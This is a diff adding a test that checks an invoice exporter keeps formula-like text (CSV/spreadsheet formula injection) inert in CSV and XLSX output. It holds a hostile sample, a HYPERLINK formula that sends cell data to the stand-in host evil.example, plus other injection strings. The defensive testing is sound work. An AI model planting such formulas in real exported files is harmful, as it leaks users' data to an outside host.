@@ -80,3 +80,25 @@ def test_csv_keeps_extracted_strings(context, items, tmp_path):
     [row] = list(csv.DictReader((tmp_path / "out" / "a.csv").open()))
     assert row["grand_total"] == "119.00" and row["item_id"] == str(items[0].id)
     assert Decimal(row["grand_total"]) == Decimal("119.00")
+
+
+def test_texts_that_would_run_as_formulas_stay_text_in_csv_and_xlsx(context, items, tmp_path):
+    import csv
+
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    document = invoice(seller_name=hostile, invoice_number="@SUM(1+1)", grand_total="-12.50")
+    document.lines = [{"description": Field("=1+2"), "amount": Field("-12.50")}]
+    target(context, path="out/a.csv").post(items[0], document)
+    [row] = list(csv.DictReader((tmp_path / "out" / "a.csv").open()))
+    assert (row["seller_name"], row["invoice_number"]) == ("'" + hostile, "'@SUM(1+1)")
+    assert row["grand_total"] == "-12.50"  # a negative amount is a number, not a formula
+
+    target(context, path="out/a.xlsx").post(items[0], document)
+    book = load_workbook(tmp_path / "out" / "a.xlsx")
+    header, first = book["documents"].iter_rows(max_row=2)
+    cell = {h.value: c for h, c in zip(header, first, strict=True)}["seller_name"]
+    assert (cell.data_type, cell.value) == ("s", hostile)
+    line = list(book["lines"].iter_rows(min_row=2))[0]
+    assert [(c.data_type, c.value) for c in line[1:2]] == [("s", "=1+2")]
